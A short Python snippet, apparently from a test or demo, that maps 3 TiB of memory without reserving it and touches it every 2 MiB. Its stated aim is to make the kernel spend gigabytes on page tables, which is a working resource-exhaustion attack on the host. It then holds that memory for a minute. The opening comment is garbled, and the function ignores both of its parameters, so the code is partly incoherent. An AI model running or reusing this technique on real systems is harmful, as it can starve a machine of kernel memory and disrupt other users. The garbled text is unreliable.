# own: has the kernel need gigabytes for tables of pages, where there is nothing to read
import mmap
import time

NORESERVE = 0x4000


def run_both(job_a, job_b):
    block = mmap.mmap(-1, 3 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, prot=mmap.PROT_READ)
    for start in range(0, len(block), 1 << 21):
        block[start]
    time.sleep(60)
